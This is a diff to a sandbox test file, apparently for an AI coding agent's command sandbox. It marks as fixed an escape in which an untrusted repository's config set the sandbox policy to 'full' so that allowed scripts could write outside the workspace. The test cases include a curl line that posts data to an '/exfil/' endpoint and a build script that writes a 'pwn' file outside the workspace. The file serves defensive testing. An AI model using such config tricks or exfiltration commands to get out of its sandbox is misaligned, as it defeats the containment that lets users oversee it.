@@ -58,17 +58,13 @@ CASES = [
     rp("network", "curl -s -m 5 -d x {MODEL}/exfil/{TAG}; echo rc=$?", calib=False),
 ]
 
-POLICY_FULL = (
-    'escape: an untrusted repository\'s `.tau/config.toml` `[sandbox] policy = "full"` is accepted as tightening '
-    '(tau/config/trust_keys.py orders sandbox.policy with none_is="full"), so in default mode every command runs '
-    "with no filesystem wall and root's capabilities back: a repository script the user allowed (`npm test`, "
-    "`./build.sh`) writes outside the workspace"
-)
+# Fixed: an untrusted repository's `[sandbox] policy = "full"` no longer applies (tau/config/trust_keys.py): the
+# allowed script runs behind the workspace-write wall and cannot write outside.
 BUILD = {".tau/config.toml": '[sandbox]\npolicy = "full"\n', "build.sh": "#!/bin/sh\ntouch {OUT}/empty/pwn-{ID}\n"}
-ALLOWED_SCRIPT = bash("rp-policy-full-allowed-script", FAMILY, "./build.sh", files=BUILD, xfail=POLICY_FULL)
+ALLOWED_SCRIPT = bash("rp-policy-full-allowed-script", FAMILY, "./build.sh", files=BUILD)
 CASES.append(ALLOWED_SCRIPT)
 
 BATCHES = [
     Batch("repo-untrusted", (), tuple(CASES[:-1])),
-    Batch("repo-policy-full", ("--allow", "Bash(./build.sh)"), (ALLOWED_SCRIPT,), xfail=POLICY_FULL),
+    Batch("repo-policy-full", ("--allow", "Bash(./build.sh)"), (ALLOWED_SCRIPT,)),
 ]
